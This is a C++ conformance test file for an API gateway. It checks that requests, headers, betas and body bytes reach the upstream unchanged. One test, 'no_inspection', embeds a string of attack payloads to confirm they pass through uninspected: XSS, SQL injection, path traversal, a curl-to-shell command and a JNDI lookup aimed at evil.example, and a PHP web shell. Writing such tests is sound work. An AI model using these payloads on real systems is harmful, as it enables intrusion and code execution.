// What reaches the upstream: paths, headers, the body's bytes.
#include <algorithm>

#include "base/ascii.h"
#include "conformance/row.h"
#include "http/content_coding.h"
#include "http/encode.h"
#include "http/json_view.h"

namespace baton::conformance {

using runtime::Task;

namespace {

// With everything in it that a parser and a printer would not bring back: blanks, the order of keys, escapes, the
// spelling of numbers, fields that nobody knows.
constexpr std::string_view kOddBody =
    "{ \"zeta\" : {\"b\":1 ,\"a\":[ 1.0, 1e2, -0, 12345678901234567890123 ]},\n"
    "  \"model\":\"claude-sonnet-5-5\", \"messages\" : [ {\"role\":\"user\" ,\"content\":[\n"
    "    {\"type\":\"text\",\"text\":\"call {marker}: caf\\u00e9 \\/ \\ud83d\\ude00 \xe6\xbc\xa2\xe5\xad\x97 \",\n"
    "     \"cache_control\":{\"ttl\":\"5m\",\"type\":\"ephemeral\"}}]} ],\r\n"
    "\t\"max_tokens\":64, \"alpha\":null, \"metadata\":{ \"user_id\":\"u\" } , \"empty\":{} , \"none\":[ ] }";

Finding all_reached(const Told& told) {
  if (auto none = missing(told, 200)) return *none;
  return passed();
}

// A body that comes in one piece with this member.
Task<Finding> member_arrives(Bench& bench, std::string_view key, std::string value) {
  Ask ask{.body = body_of(",\"" + std::string(key) + "\":" + value)};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  const std::string seen = compact(http::json_member(first(told).body, key));
  if (seen != compact(value))
    co_return failed(std::string(key) + ": " + shown(compact(value)),
                     seen.empty() ? "the field is missing" : std::string(key) + ": " + shown(seen));
  co_return passed();
}

Task<Finding> fields_arrive(Bench& bench, Fields fields) {
  Ask ask{.fields = fields};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  for (const auto& [name, value] : fields) {
    const auto seen = first(told).all(name);
    if (seen.size() == 1 && seen.front() == value) continue;
    std::string text = seen.empty() ? "no such field" : "";
    for (const std::string_view one : seen) text += (text.empty() ? "" : " and ") + shown(one);
    co_return failed(name + ": " + shown(value), name + ": " + text);
  }
  co_return passed();
}

// The path as sent, behind whatever the gateway's configuration puts before it.
std::optional<Finding> target_arrived(const Told& told) {
  const std::string& seen = first(told).target;
  if (seen.ends_with(told.target)) return std::nullopt;
  return failed("the target " + shown(told.target), "the target " + shown(seen));
}

Task<Finding> reach(Bench& bench, const Row&) {
  Ask ask;
  const Told told = co_await bench.ask(std::move(ask));
  if (told.reply.end == End::kNoConnection) co_return failed("a gateway that takes connections", describe(told.reply));
  if (told.arrivals().empty() && (told.reply.status == 401 || told.reply.status == 403))
    co_return failed("a call that the gateway lets in: give a key that it knows with --key", describe(told.reply));
  if (told.arrivals().empty())
    co_return failed(
        "the call at this suite's upstream: the gateway's base URL for the vendor has to be the address above, over "
        "plain HTTP, with any key",
        "nothing came there; to the client: " + describe(told.reply));
  co_return all_reached(told);
}

Task<Finding> path_arrives(Bench& bench, const Row& row) {
  Ask ask{.target = row.number == 0 ? "/v1/messages?beta=true" : "/v1/messages/count_tokens?beta=true"};
  if (row.number == 1) {
    ask.body = R"({"model":"claude-sonnet-5-5","messages":[{"role":"user","content":"This is call {marker}."}]})";
    ask.answers.push_back(whole(200, R"({"input_tokens":1234567})"));
  }
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  if (auto wrong = target_arrived(told)) co_return *wrong;
  if (row.number == 1) {
    if (auto wrong = same_bytes("the upstream's count", R"({"input_tokens":1234567})", told.reply.body))
      co_return *wrong;
  }
  co_return passed();
}

Task<Finding> other_path_arrives(Bench& bench, const Row&) {
  Ask ask{.method = "GET", .target = "/v1/unheard/of?call={marker}&list[]=a&list[]=b"};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  if (auto wrong = target_arrived(told)) co_return *wrong;
  co_return passed();
}

Task<Finding> version_arrives(Bench& bench, const Row&) {
  for (const char* version : {"2023-06-01", "2026-10-21", "2031-01-01"}) {
    Fields fields{{"anthropic-version", version}};
    const Finding finding = co_await fields_arrive(bench, std::move(fields));
    if (finding.verdict != Verdict::kPass) co_return finding;
  }
  co_return passed();
}

std::string joined_betas(const std::vector<std::string_view>& values) {
  std::string out;
  for (const std::string_view value : values) {
    if (!out.empty()) out += ',';
    for (char c : value) {
      if (c != ' ' && c != '\t') out += c;
    }
  }
  return out;
}

Task<Finding> betas_arrive(Bench& bench, const Row&) {
  const Fields cases[] = {
      {{"anthropic-beta", "claude-code-20250219,unheard-of-2031-02-03,interleaved-thinking-2025-05-14"}},
      {{"anthropic-beta", "one-2030-01-01, two-2030-01-02"}, {"anthropic-beta", "three-2030-01-03"}},
      {{"anthropic-beta", "z-9,a-1,z-9"}},
  };
  for (const Fields& fields : cases) {
    Ask ask{.fields = fields};
    const Told told = co_await bench.ask(std::move(ask));
    if (auto none = missing(told, 200)) co_return *none;
    const std::string wanted = joined_betas(values_of(fields, "anthropic-beta"));
    const std::string seen = joined_betas(first(told).all("anthropic-beta"));
    if (wanted != seen)
      co_return failed("anthropic-beta: " + shown(wanted),
                       seen.empty() ? "no such field" : "anthropic-beta: " + shown(seen));
  }
  co_return passed();
}

Task<Finding> no_beta_is_added(Bench& bench, const Row&) {
  Ask ask;
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  const std::string seen = joined_betas(first(told).all("anthropic-beta"));
  if (!seen.empty()) co_return failed("no anthropic-beta where the client sent none", "anthropic-beta: " + shown(seen));
  co_return passed();
}

Task<Finding> unknown_headers(Bench& bench, const Row&) {
  Fields fields{{"anthropic-unheard-of", "x; y=\"z\""},
                {"anthropic-user-profile-id", "prof_1"},
                {"x-app", "cli"},
                {"x-stainless-retry-count", "2"},
                {"x-stainless-timeout", "600"},
                {"anthropic-dangerous-direct-browser-access", "true"}};
  co_return co_await fields_arrive(bench, std::move(fields));
}

Task<Finding> session_headers(Bench& bench, const Row&) {
  Fields fields{{"x-claude-code-session-id", "7b1c3f0a-3a53-4a64-9d0f-1f7e0c8a5b11"},
                {"x-claude-code-agent-id", "agent-1"},
                {"x-claude-code-parent-agent-id", "agent-0"}};
  co_return co_await fields_arrive(bench, std::move(fields));
}

Task<Finding> unknown_fields(Bench& bench, const Row&) {
  co_return co_await member_arrives(bench, "unheard_of_2031", R"({"b":[1,2,{"deep":true}],"a":"text"})");
}

Task<Finding> system_unchanged(Bench& bench, const Row&) {
  co_return co_await member_arrives(
      bench, "system",
      R"([{"type":"text","text":"x-anthropic-billing-header: cc_version=2.1.330.839; cc_entrypoint=sdk-cli;"},)"
      R"({"type":"text","text":"You are a careful agent.","cache_control":{"type":"ephemeral"}},)"
      R"({"type":"text","text":"The rest.","cache_control":{"type":"ephemeral","ttl":"1h"}}])");
}

Task<Finding> tools_unchanged(Bench& bench, const Row&) {
  co_return co_await member_arrives(
      bench, "tools",
      R"([{"name":"zoom","description":"d","input_schema":{"type":"object","required":["b","a"],)"
      R"("properties":{"b":{"type":"string"},"a":{"type":"integer","default":1}},"additionalProperties":false}},)"
      R"({"name":"later","defer_loading":true,"input_schema":{"type":"object"},"cache_control":{"type":"ephemeral"}}])");
}

Task<Finding> key_order(Bench& bench, const Row&) {
  Ask ask{.body = std::string(kOddBody)};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  std::string wanted, seen;
  for (const std::string& key : keys_of(told.body)) wanted += key + " ";
  for (const std::string& key : keys_of(first(told).body)) seen += key + " ";
  if (wanted != seen) co_return failed("the keys " + shown(wanted), "the keys " + shown(seen));
  co_return passed();
}

Task<Finding> body_bytes(Bench& bench, const Row&) {
  Ask ask{.body = std::string(kOddBody)};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  if (auto wrong = same_bytes("the body at the upstream", told.body, first(told).body)) co_return *wrong;
  co_return passed();
}

Task<Finding> no_inspection(Bench& bench, const Row&) {
  Ask ask{.body =
              R"({"model":"claude-sonnet-5-5","max_tokens":64,"messages":[{"role":"user","content":"Call {marker}. )"
              R"(<script>alert(document.cookie)</script> <img src=x onerror=alert(1)> ' OR 1=1; DROP TABLE users;-- )"
              R"(../../etc/passwd $(curl evil.example|sh) ${jndi:ldap://evil.example/a} <?php system($_GET['c']); ?> )"
              R"({{7*7}} %0d%0aSet-Cookie: a=b AKIAIOSFODNN7EXAMPLE"}]})"};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  const auto wanted = compact(http::json_member(told.body, "messages"));
  const auto seen = compact(http::json_member(first(told).body, "messages"));
  if (wanted != seen) co_return same_bytes("the messages at the upstream", wanted, seen).value_or(passed());
  co_return passed();
}

Task<Finding> large_body(Bench& bench, const Row& row) {
  std::string text(static_cast<size_t>(row.number) * kMiB, 'x');
  for (size_t i = 0; i < text.size(); i += 64) text[i] = static_cast<char>('a' + i / 64 % 26);
  Ask ask{.body = R"({"model":"claude-sonnet-5-5","max_tokens":64,"messages":[{"role":"user","content":"{marker} )" +
                  text + R"("}]})"};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  if (first(told).body.find(text) == std::string::npos)
    co_return failed("the whole text", std::to_string(first(told).body.size()) + " bytes, not the text");
  co_return passed();
}

Task<Finding> large_head(Bench& bench, const Row&) {
  Fields fields{{"anthropic-beta", {}}};
  for (int i = 0; i < 200; ++i) fields.front().second += "unheard-of-beta-" + std::to_string(1000 + i) + ",";
  fields.front().second += "last-2031-01-01";
  fields.emplace_back("x-large-1", std::string(4000, 'a'));
  fields.emplace_back("x-large-2", std::string(4000, 'b'));
  fields.emplace_back("x-large-3", std::string(4000, 'c'));
  Ask ask{.fields = fields};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  const std::string seen = joined_betas(first(told).all("anthropic-beta"));
  if (seen != fields.front().second)
    co_return failed("the whole beta list", std::to_string(seen.size()) + " bytes of it");
  co_return passed();
}

Task<Finding> either_credential(Bench& bench, const Row&) {
  const Fields cases[] = {{{"x-api-key", bench.key()}},
                          {{"x-api-key", ""}, {"authorization", "Bearer " + bench.key()}}};
  for (const Fields& fields : cases) {
    Ask ask{.fields = fields};
    const Told told = co_await bench.ask(std::move(ask));
    if (auto none = missing(told, 200)) {
      none->expected += fields.size() == 1 ? " with x-api-key" : " with authorization: Bearer";
      co_return *none;
    }
  }
  co_return passed();
}

Task<Finding> gzip_body(Bench& bench, const Row&) {
  const std::string plain = R"({"model":"claude-sonnet-5-5","max_tokens":64,"messages":[{"role":"user","content":")" +
                            std::string(2000, 'y') + R"("}]})";
  const auto packed = http::encode_whole(http::Coding::kGzip, plain);
  if (!packed) co_return skipped("no memory to compress with");
  Ask ask{.fields = {{"content-encoding", "gzip"}}, .body = *packed};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  const auto coding = first(told).all("content-encoding");
  if (coding.empty()) {
    if (auto wrong = same_bytes("the body, unpacked", plain, first(told).body)) co_return *wrong;
  } else {
    if (auto wrong = same_bytes("the packed body", *packed, first(told).body)) co_return *wrong;
  }
  co_return passed();
}

// A field and the beta that allows it are worth nothing without one another.
Task<Finding> beta_with_its_field(Bench& bench, const Row&) {
  const std::string field = R"({"mode":"auto","checks":["shell"]})";
  const std::string answer =
      R"({"id":"msg_1","type":"message","role":"assistant","model":"claude-sonnet-5-5","content":[],)"
      R"( "safeguard_results" : [{"tool":"shell","verdict":"allowed"}],"stop_reason":"end_turn",)"
      R"("usage":{"input_tokens":1,"output_tokens":1}})";
  Ask ask{.target = "/v1/messages?beta=true",
          .fields = {{"anthropic-beta", "dangerous-tool-use-2026-09-03"}},
          .body = body_of(",\"safeguards\":" + field)};
  ask.answers.push_back(whole(200, answer));
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  if (joined_betas(first(told).all("anthropic-beta")) != "dangerous-tool-use-2026-09-03")
    co_return failed("the beta", "it is missing");
  if (compact(http::json_member(first(told).body, "safeguards")) != field)
    co_return failed("safeguards: " + field, shown(first(told).body));
  if (auto wrong = same_bytes("the reply", answer, told.reply.body)) co_return *wrong;
  co_return passed();
}

Task<Finding> signature_arrives(Bench& bench, const Row&) {
  const std::string messages =
      R"([{"role":"user","content":"This is call {marker}."},{"role":"assistant","content":[)"
      R"({"type":"thinking","thinking":"","signature":"EqQBCkYIBxgCKkAx+/=="},)"
      R"({"type":"redacted_thinking","data":"EmwKAhgBEgy3va3pzix/LafPsn4a"},)"
      R"({"type":"tool_use","id":"toolu_1","name":"a","input":{}}]},)"
      R"({"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":"b"}]}])";
  Ask ask{.body = R"({"model":"claude-sonnet-5-5","max_tokens":64,"thinking":{"type":"adaptive"},"messages":)" +
                  messages + "}"};
  const Told told = co_await bench.ask(std::move(ask));
  if (auto none = missing(told, 200)) co_return *none;
  if (auto wrong = same_bytes("the messages at the upstream", compact(http::json_member(told.body, "messages")),
                              compact(http::json_member(first(told).body, "messages"))))
    co_return *wrong;
  co_return passed();
}

Task<Finding> models(Bench& bench, const Row& row) {
  const std::string list =
      R"({"data":[{"type":"model","id":"claude-opus-5-5","display_name":"Claude Opus 5.5","created_at":"2026-01-01T00:00:00Z"},)"
      R"({"type":"model","id":"claude-unheard-of-9","display_name":"Claude","created_at":"2026-01-01T00:00:00Z"}],)"
      R"("has_more":false,"first_id":"claude-opus-5-5","last_id":"claude-unheard-of-9"})";
  Ask ask{.method = "GET", .target = "/v1/models?limit=1000"};
  ask.answers.push_back(whole(200, list));
  if (row.number == 1) ask.fields = {{"x-api-key", ""}, {"authorization", "Bearer " + bench.key()}};
  const Told told = co_await bench.ask(std::move(ask));
  if (told.reply.status >= 300 && told.reply.status < 400) co_return failed("no redirect", describe(told.reply));
  if (told.reply.status != 200 || told.reply.end != End::kComplete)
    co_return failed("a list of models", describe(told.reply));
  if (told.reply.ended_after > bench.config().models_max)
    co_return failed("an answer within 3 s", std::to_string(milliseconds(told.reply.ended_after)) + " ms");
  size_t found = 0;
  http::JsonElements entries(http::json_member(told.reply.body, "data"));
  while (entries.next()) {
    std::string room;
    const std::string_view id = http::json_text(http::json_member(entries.value, "id"), room);
    if (id.find("claude") != id.npos || id.find("anthropic") != id.npos) ++found;
  }
  if (found == 0) co_return failed("models whose ids say claude or anthropic", describe(told.reply));
  co_return passed(std::to_string(found) + " models" + (told.arrivals().empty() ? " of its own" : ""));
}

Task<Finding> hello(Bench& bench, const Row&) {
  Ask ask{.method = "HEAD",
          .target = "/api/hello",
          .fields = {{"x-api-key", ""}, {"anthropic-version", ""}, {"user-agent", "Bun/1.4.4"}}};
  const Told told = co_await bench.ask(std::move(ask));
  if (told.reply.status == 0 || told.reply.end != End::kComplete) co_return failed("an answer", describe(told.reply));
  if (told.reply.status >= 500 || told.reply.status == 401 || told.reply.status == 403)
    co_return failed("any status that is no failure of a server and asks for no key", describe(told.reply));
  co_return passed("status " + std::to_string(told.reply.status));
}

constexpr Row kReach[] = {
    {"reach", "a plain call goes through the gateway to the upstream and its answer comes back", reach}};

constexpr Row kRequest[] = {
    {"path-messages", "POST /v1/messages?beta=true arrives with its path and query", path_arrives, 0},
    {"path-count-tokens", "token counts go to the upstream, query and all, and its count comes back", path_arrives, 1},
    {"path-other", "paths below /v1 that the gateway does not know pass through", other_path_arrives},
    {"version", "anthropic-version arrives as it was sent, unknown versions too", version_arrives},
    {"betas", "anthropic-beta arrives whole and in order, unknown betas too, one field or several", betas_arrive},
    {"no-beta-added", "no beta is added", no_beta_is_added},
    {"headers-unknown", "header fields that the gateway does not know arrive", unknown_headers},
    {"headers-session", "Claude Code's session and agent fields are taken and arrive", session_headers},
    {"credentials", "the key is taken from x-api-key and from authorization: Bearer", either_credential},
    {"fields-unknown", "body fields that the gateway does not know arrive", unknown_fields},
    {"beta-with-field", "a beta and the field it allows arrive together, and so does what the reply says of it",
     beta_with_its_field},
    {"system", "the system blocks arrive in their order, nothing merged or put before them", system_unchanged},
    {"tools", "tools and schemas arrive with their cache marks", tools_unchanged},
    {"signatures", "thinking blocks and their signatures arrive unchanged", signature_arrives},
    {"key-order", "the body's keys arrive in their order, on which prompt caches depend", key_order},
    {"body-bytes", "the body arrives byte for byte", body_bytes},
    {"gzip-body", "a body that the client compressed arrives", gzip_body},
    {"no-inspection", "source code that looks like an attack is no attack", no_inspection},
    {"large-body", "a body of 8 MB arrives", large_body, 8},
    {"large-head", "16 KB of header fields arrive", large_head},
    {"models", "the list of models is answered within 3 s and without a redirect", models, 0},
    {"models-bearer", "the same with the key as a bearer token", models, 1},
    {"hello", "HEAD /api/hello, a client's warm-up, is answered without a key", hello},
};

}  // namespace

std::span<const Row> reach_rows() { return kReach; }
std::span<const Row> request_rows() { return kRequest; }

}  // namespace baton::conformance
